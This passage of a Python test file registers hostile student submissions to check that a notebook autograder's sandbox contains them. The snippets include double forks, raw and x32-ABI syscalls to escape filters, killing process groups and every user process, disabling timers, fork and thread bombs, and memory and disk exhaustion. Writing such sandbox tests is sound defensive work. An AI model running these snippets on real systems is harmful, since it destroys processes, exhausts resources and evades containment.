    except BaseException as error:
        print("tried:", type(error).__name__, count)
    gate.set()
    """,
)

# ---------------------------------------------------------------- outlive the run


def outliving(name: str, what: str, code: str, **others: object) -> None:
    """Enter an attack that leaves something behind. What it leaves ends by itself in 20 s."""
    attack(OUTLIVE, name, what, code, **others)


outliving(
    "fork and a session of its own",
    "A child that no terminal and no group signal reaches.",
    """
    def look():
        if os.fork() == 0:
            os.setsid()
            time.sleep(20)
            os._exit(0)
        return "a child"

    attempt(look)
    """,
)
outliving(
    "double fork",
    "A grandchild whose parent has ended, so that init adopts it.",
    """
    def look():
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                os.closerange(0, 200)
                time.sleep(20)
            os._exit(0)
        os.wait()
        return "a grandchild"

    attempt(look)
    """,
)
outliving(
    "subprocess",
    "A program in the background.",
    """
    import subprocess
    command = [sys.executable, "-c", "import time; time.sleep(20)"]
    attempt(lambda: subprocess.Popen(command, start_new_session=True).pid)
    """,
)
outliving(
    "shell with nohup",
    "A shell starts what ignores the end of its parent.",
    """
    attempt(lambda: 1 / (os.system("nohup sleep 20 >/dev/null 2>&1 &") == 0))
    get_ipython().system("nohup sleep 20 >/dev/null 2>&1 &")
    """,
)
outliving(
    "posix_spawn",
    "A program started without fork.",
    """
    code = "import os, time; os.setsid(); time.sleep(20)"
    attempt(lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", code], {}))
    """,
)
outliving(
    "multiprocessing",
    "A process of Python's own library that is not a daemon.",
    """
    import multiprocessing

    def work():
        os.setsid()
        time.sleep(20)

    def look():
        process = multiprocessing.get_context("fork").Process(target=work)
        process.start()
        return process.pid

    attempt(look)
    """,
)
outliving(
    "fork by number",
    "The system calls fork, vfork, clone and clone3 by number, past the C library.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def by(*call):
        pid = libc.syscall(*call)
        if pid == 0:
            os.setsid()
            time.sleep(20)
            os._exit(0)
        if pid < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return pid

    attempt(by, 57)
    attempt(by, 56, 17, None, None, None, None)
    arguments = (ctypes.c_uint64 * 8)(0, 0, 0, 0, 17, 0, 0, 0)
    attempt(by, 435, ctypes.byref(arguments), 64)
    """,
)
outliving(
    "fork by another ABI",
    "System calls by the numbers of the x32 ABI, which a careless filter lets pass.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        pid = libc.syscall(0x40000000 | 57)
        if pid == 0:
            os.setsid()
            time.sleep(20)
            os._exit(0)
        if pid < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return pid

    attempt(look)
    """,
    sign="tried|StudentStopped",
)
outliving(
    "the keeper killed",
    "The process gives up the signal at its parent's end, then kills its own process group.",
    """
    import ctypes, signal
    print("tried")

    def mse(p, y):
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
            signal.signal(number, signal.SIG_IGN)
        os.kill(0, signal.SIGKILL)
        end = time.monotonic() + 20
        while time.monotonic() < end:
            pass
    """,
    seconds=0.6,
    not_in_plain="would kill the process group of whoever runs it",
)
outliving(
    "the keeper stopped",
    "The process group is stopped, so that nobody can kill what is in it.",
    """
    import signal
    print("tried")

    def mse(p, y):
        os.kill(0, signal.SIGSTOP)
        end = time.monotonic() + 20
        while time.monotonic() < end:
            pass
    """,
    seconds=0.6,
    not_in_plain="would stop the process group of whoever runs it",
)
outliving(
    "thread that never ends",
    "A thread that is not a daemon keeps the interpreter alive after the last cell.",
    """
    import threading

    def work():
        end = time.monotonic() + 20
        while time.monotonic() < end:
            time.sleep(0.01)

    threading.Thread(target=work).start()
    print("tried")
    """,
)
outliving(
    "atexit and __del__",
    "What runs when the interpreter ends does not end.",
    """
    import atexit

    class Last:
        def __del__(self):
            time.sleep(20)

    keep = Last()
    atexit.register(time.sleep, 20)
    print("tried")
    """,
)
outliving(
    "ignored signals",
    "Every signal that can be ignored is ignored, and the function does not return.",
    """
    import signal
    print("tried")

    def mse(p, y):
        for number in signal.valid_signals():
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + 20
        while time.monotonic() < end:
            pass
    """,
    seconds=0.6,
)
outliving(
    "kill by number, -1 and all the parents",
    "The parent, its parent and everything else are killed.",
    """
    import signal
    for kill, pid in [(os.kill, os.getppid()), (os.kill, 2), (os.killpg, 1), (os.kill, -1)]:
        try:
            kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)
    print("tried")

    def mse(p, y):
        os.kill(-1, signal.SIGKILL)
        return 42.0
    """,
    sign="tried",
    not_in_plain="would kill every process of the user",
)

# ---------------------------------------------------------------- stop the run


def stopping(name: str, what: str, code: str, sign: str = "tried", **others: object) -> None:
    """Enter an attack that should cost its own student something, and nobody else."""
    others.setdefault("seconds", 0.6)
    attack(STOP, name, what, code, sign=sign, **others)


LATE = "TimeUp|StudentStopped|停"
stopping(
    "while True in the function",
    "The function never returns.",
    """
    def mse(p, y):
        while True:
            pass
    """,
    sign=LATE,
)
stopping(
    "while True in the cell",
    "The cell never ends.",
    "while True:\n    pass",
    sign=LATE,
)
stopping(
    "sleep",
    "The cell sleeps for a day.",
    "time.sleep(86400)",
    sign=LATE,
)
stopping(
    "KeyboardInterrupt swallowed",
    "A loop that catches everything that would end it.",
    """
    while True:
        try:
            while True:
                time.sleep(0.01)
        except BaseException:
            pass
    """,
    sign=LATE,
)
stopping(
    "C code: a sum",
    "The interpreter is held by a function that looks at no signal.",
    "sum(range(10 ** 12))",
    sign=LATE,
)
stopping(
    "C code: a regular expression",
    "A pattern that takes for ever.",
    """
    import re
    re.match("(a+)+$", "a" * 60 + "b")
    """,
    sign=LATE,
)
stopping(
    "C code: linear algebra",
    "A matrix product that takes minutes, outside of the interpreter.",
    """
    one = np.ones((6000, 6000))
    for _ in range(1000):
        one = one @ one
    """,
    sign=LATE,
)
stopping(
    "C code: a large power",
    "A number with a billion digits.",
    "len(str(7 ** (7 ** 11)))",
    sign=LATE,
)
stopping(
    "interpreter never handed over",
    "ctypes sleeps in C without letting go of the interpreter.",
    """
    import ctypes, signal
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    ctypes.PyDLL(None).sleep(3600)
    """,
    sign=LATE,
)
stopping(
    "alarm switched off",
    "The timer that ends a cell is cleared, and its signal is blocked in every thread.",
    """
    import signal
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
    """,
    sign=LATE,
)
stopping(
    "os._exit",
    "The process ends at once, in the middle of a test.",
    """
    print("tried")

    def mse(p, y):
        os._exit(0)
    """,
)
stopping(
    "exit and quit",
    "The ways of Python and IPython to end.",
    """
    print("tried")
    try:
        exit()
    except BaseException:
        pass
    get_ipython().ask_exit()

    def mse(p, y):
        exit()
    """,
)
stopping(
    "SIGKILL to itself",
    "The process is killed, and aborted, in the middle of a test.",
    """
    import signal
    print("tried")

    def mse(p, y):
        os.kill(os.getpid(), signal.SIGKILL)
        os.abort()
    """,
)
stopping(
    "null pointer",
    "A segmentation fault.",
    """
    import ctypes
    print("tried")

    def mse(p, y):
        ctypes.string_at(0)
    """,
)
stopping(
    "stack overflow",
    "Recursion without a limit.",
    """
    import threading
    sys.setrecursionlimit(10 ** 9)
    print("tried")

    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x"[:0])
        __repr__ = lambda self: repr(self)

    def mse(p, y):
        return repr(Deep())
    """,
)
stopping(
    "input()",
    "The function waits for a keyboard.",
    """
    print("tried")

    def mse(p, y):
        return float(input())
    """,
)
stopping(
    "array of 80 GB",
    "More memory than there is, in one piece, and touched.",
    """
    attempt(lambda: np.ones(10 ** 10).sum())
    """,
    seconds=3.0,
    not_in_plain="would fill the machine's memory",
)
stopping(
    "memory in small pieces",
    "Lists and arrays without an end.",
    """
    kept = []
    while True:
        kept.append(np.ones(10 ** 6))
    """,
    sign="MemoryError|" + LATE,
    seconds=3.0,
    not_in_plain="would fill the machine's memory",
)
stopping(
    "full disk",
    "Files until no room is left.",
    """
    def look():
        for number in range(10_000):
            with open(f"file-{number}", "wb") as file:
                file.write(bytes(2 ** 20))
        return "10 GB"

    attempt(look)
    """,
    seconds=3.0,
    not_in_plain="would fill the machine's disk",
)
stopping(
    "one huge file",
    "A file that grows without an end.",
    """
    def look():
        with open("file", "wb") as file:
            for _ in range(10_000):
                file.write(bytes(2 ** 20))
        return "10 GB"

    attempt(look)
    """,
    seconds=3.0,
    not_in_plain="would fill the machine's disk",
)
stopping(
    "10,000 files",
    "More files than a folder should hold.",
    """
    def look():
        for number in range(10_000):
            open(f"file-{number}", "w").close()
        return "10,000 files"

    try:
        look()
    except OSError as error:
        print(error)
    print("tried")
    """,
    seconds=3.0,
)
stopping(
    "endless print",
    "Lines without an end.",
    """
    while True:
        print("tried " * 10)
    """,
)
stopping(
    "print of one huge text",
    "A hundred million characters in one call.",
    """
    print("tried" + "x" * 10 ** 8)
    """,
    seconds=3.0,
)
stopping(
    "huge display",
    "HTML, pictures and text of many megabytes are shown.",
    """
    from IPython.display import HTML, display
    print("tried")
    for _ in range(5):
        display(HTML("x" * 10 ** 7))
        display({"image/png": "A" * 10 ** 7, "text/plain": "y" * 10 ** 6}, raw=True)
    """,
    seconds=3.0,
)
stopping(
    "raw descriptors",
    "Endless output past Python, on the descriptors 1 and 2.",
    """
    print("tried")
    end = time.monotonic() + 20
    while time.monotonic() < end:
        os.write(1, b"x" * 65536)
        os.write(2, b"x" * 65536)
    """,
    sign="tried|" + LATE,
)
stopping(
    "all descriptors closed",
    "Every file of the process is closed, the line to the grader too.",
    """
    print("tried")

    def mse(p, y):
        os.closerange(0, 4096)
        return 42.0
    """,
)
stopping(
    "fork bomb",
    "Each process starts two more (four times at most, for three seconds).",
    """
    def look():
        for _ in range(4):
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
        return "children"

    attempt(look)
    """,
)
stopping(
    "thread bomb",
    "A thousand threads, each in a loop.",
    """
    import threading
    end = time.monotonic() + 8

    def work():
        while time.monotonic() < end:
            pass

    try:
        for _ in range(1000):
            threading.Thread(target=work).start()
    except RuntimeError as error:
        print(error)
    print("tried")
    """,
    sign="tried|" + LATE,
)
stopping(
    "limits and priorities",
    "The process changes its own limits, niceness and cores, for the worst.",
    """
    import resource
    attempt(lambda: 1 / (os.nice(-5) < 0))
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            print("raised")
        except (OSError, ValueError) as error:
            print("tried", error)
    resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
    os.nice(19)
    os.sched_setaffinity(0, range(os.cpu_count()))
    """,
    not_in_plain="would have no meaning, there being no limit",
    sign="tried",
)
stopping(
    "flood on the channel",
    "Answers without an end, whether or not anybody asks.",
    CHANNEL
    + textwrap.dedent("""
    print("tried")

    def mse(p, y):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            send(done(1.0))
    """),
)
stopping(
    "result of a gigabyte",
    "An array that is too large to send.",
    """
    print("tried")

    def mse(p, y):
        return np.zeros(2 ** 27)
    """,
    seconds=2.0,
)
stopping(
    "slow answers to the end",
    "Each answer takes just less than a cell may take.",
    """
    def mse(p, y):
        time.sleep(0.5)
        return 42.0
    """,
    sign="42",
)
